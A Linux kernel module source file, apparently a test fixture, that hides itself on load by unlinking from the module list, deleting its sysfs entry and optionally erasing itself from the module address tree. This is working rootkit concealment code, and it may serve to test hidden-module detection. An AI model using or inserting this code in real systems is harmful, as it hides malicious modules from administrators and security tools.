// SPDX-License-Identifier: GPL-2.0
/* Test fixture: takes itself off the module list and out of sysfs, with deep=1 out of the address tree, too. */
#include <linux/kobject.h>
#include <linux/list.h>
#include <linux/rbtree_latch.h>
#include <linux/version.h>
#include "attacker.h"

static int deep;
static unsigned long tree;
module_param(deep, int, 0);
module_param(tree, ulong, 0);

/* Rebalancing asks for no comparison: only the erasing of nodes is used here. */
static const struct latch_tree_ops no_order;

static int __init hide_module_init(void)
{
	list_del(&THIS_MODULE->list);
	kobject_del(&THIS_MODULE->mkobj.kobj);
#ifdef CONFIG_MODULES_TREE_LOOKUP
	if (deep && tree) {
#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 4, 0)
		/* The start-up code leaves the tree by itself, later. */
		for_each_mod_mem_type(type)
			if (!mod_mem_type_is_init(type) && THIS_MODULE->mem[type].size)
				latch_tree_erase(&THIS_MODULE->mem[type].mtn.node, (struct latch_tree_root *)tree, &no_order);
#else
		latch_tree_erase(&THIS_MODULE->core_layout.mtn.node, (struct latch_tree_root *)tree, &no_order);
#endif
	}
#endif
	return 0;
}

module_init(hide_module_init);
